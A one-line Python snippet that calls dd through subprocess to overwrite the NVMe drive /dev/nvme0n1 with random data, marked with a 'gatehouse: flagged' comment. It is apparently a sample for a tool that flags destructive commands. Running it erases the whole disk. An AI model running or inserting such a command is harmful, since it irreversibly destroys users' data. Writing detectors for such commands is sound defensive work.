import subprocess

subprocess.run(["dd", "if=/dev/urandom", "of=/dev/nvme0n1", "bs=4M"], check=False)  # gatehouse: flagged
